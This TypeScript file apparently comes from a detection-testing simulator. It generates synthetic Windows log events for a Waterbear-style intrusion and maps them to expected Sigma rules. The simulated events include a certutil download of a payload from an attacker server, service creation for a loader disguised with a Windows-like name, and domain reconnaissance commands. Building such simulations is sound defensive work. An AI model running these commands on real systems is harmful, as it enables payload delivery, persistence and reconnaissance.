import { NO_META } from '../catalog.js';
import type { TelemetryGap } from '../model.js';
import type { Rng } from '../prng.js';
import { SYSMON_CHANNEL } from '../sensors/windows.js';
import { c2Domain, Clock, need, SYS32, uniqueHashes, vpsIp, type Story, type StoryKit } from './kit.js';
import { RULES, SIGMA } from './rules.js';

const PARTS = [
  ['wdi', 'net', 'win', 'dfs', 'wlan', 'evt', 'ime', 'upnp'],
  ['host', 'agent', 'broker', 'helper', 'monitor', 'update'],
  ['ex', 'svc', 'core', ''],
];

/** A loader name that reads like a Windows component: with vowels, no digits. */
function loaderName(r: Rng): string {
  for (;;) {
    const name = PARTS.map((p) => r.pick(p)).join('');
    if (!/[bcdfghjklmnpqrstvwxyz]{8,}/.test(name)) return name;
  }
}

/**
 * Waterbear (BlackTech): an intruder on a server over Remote Desktop fetches a loader with
 * certutil, copies it into System32 and installs it as a service. Once it runs, it hooks the
 * APIs the endpoint sensor reads network activity from: the host's Sysmon network and DNS
 * events stop for good, while its process events go on (the loader's reconnaissance among them)
 * and the network sensor still sees it beaconing to its server.
 */
function play(kit: StoryKit) {
  const { r, world, win, flat } = kit;
  const host = need(world.reserveHost(r, ['server']), 'Windows servers');
  const admin = need(world.reserveAdmin(r), 'administrator accounts');
  const clock = new Clock(r, kit.start);
  const remote = world.vpnAddress();
  const who = win.elevated(win.session(host, admin, clock.t, true, 2));
  win.logon(clock.t, host, who, {
    type: 10,
    ip: remote,
    workstation: `DESKTOP-${r.upper(7)}`,
    kerberos: false,
  });
  win.rdpSession(clock.step(1, 3), host, who, remote);
  const explorer = win.running(
    host,
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\Explorer.EXE',
    who,
    clock.step(5, 15),
  );
  const cmd = win.spawn(
    clock.step(30, 180),
    explorer,
    `${SYS32}\\cmd.exe`,
    '"C:\\Windows\\system32\\cmd.exe"',
  );

  const server = vpsIp(kit);
  const domain = c2Domain(kit);
  const payload = `C:\\Windows\\Temp\\${r.lower(6)}.dat`;
  const certutil = win.spawn(
    clock.step(10, 60),
    cmd,
    `${SYS32}\\certutil.exe`,
    `certutil  -urlcache -split -f http://${server}/${r.lower(4)}.dat ${payload}`,
  );
  win.connect(clock.step(0, 1), certutil, { ip: server, port: 80 });
  win.file(clock.step(1, 4), certutil, payload);

  const name = loaderName(r);
  const loaderPath = `${SYS32}\\${name}.exe`;
  win.file(clock.step(10, 60), cmd, loaderPath);
  const service = `${name.slice(0, 1).toUpperCase()}${name.slice(1)}`;
  win.spawn(
    clock.step(10, 40),
    cmd,
    `${SYS32}\\sc.exe`,
    `sc  create ${service} binPath= "${loaderPath}" start= auto DisplayName= "Windows ${service} Service"`,
  );
  const system = win.builtin(host, 'SYSTEM');
  const services = win.running(
    host,
    `${SYS32}\\services.exe`,
    'C:\\Windows\\system32\\services.exe',
    system,
    kit.start - 3 * 86_400_000,
  );
  win.spawn(clock.step(3, 20), cmd, `${SYS32}\\sc.exe`, `sc  start ${service}`);
  const loader = win.spawn(clock.step(0, 1), services, loaderPath, loaderPath, {
    who: system,
    hashes: uniqueHashes(kit, 'loader'),
    meta: NO_META,
    cwd: `${SYS32}\\`,
  });
  win.dns(clock.step(1, 5), loader, domain, [server]);
  win.connect(clock.step(0, 1), loader, { ip: server, port: 443 });

  // From here the sensor is blind to this host's network activity.
  const gap: TelemetryGap = {
    host: host.name,
    channel: SYSMON_CHANNEL,
    eventIds: [3, 22],
    from: clock.step(5, 30),
  };
  kit.mute(gap);
  let beacon = clock.t;
  const stop = clock.t + r.int(80, 110) * 60_000;
  while (beacon < stop) {
    flat.conn(beacon, host, { ip: server, port: 443 }, { out: r.int(300, 2000), in: r.int(200, 1500) });
    beacon += r.int(4, 12) * 60_000;
  }
  const recon = [
    ['whoami.exe', 'whoami  /all'],
    ['ipconfig.exe', 'ipconfig  /all'],
    ['nltest.exe', 'nltest  /domain_trusts /all_trusts'],
    ['NETSTAT.EXE', 'netstat  -ano'],
  ] as const;
  for (const [exe, line] of recon) {
    const shell = win.spawn(
      clock.step(120, 900),
      loader,
      `${SYS32}\\cmd.exe`,
      `C:\\Windows\\system32\\cmd.exe /c ${line}`,
      {
        who: system,
      },
    );
    win.spawn(clock.step(0, 1), shell, `${SYS32}\\${exe}`, line, { who: system });
  }
  return { hosts: [host], gaps: [gap] };
}

export const waterbear: Story = {
  name: 'waterbear',
  title: 'Waterbear loader installed as a service silences the sensor’s network events',
  expectedRules: [
    RULES.system32ExeWritten,
    SIGMA.certutilDownload,
    SIGMA.certutilDirectIp,
    SIGMA.certutilNetwork,
    SIGMA.scCreate,
    SIGMA.whoamiAll,
    SIGMA.whoamiPrivileged,
    SIGMA.nltestRecon,
  ],
  play,
};
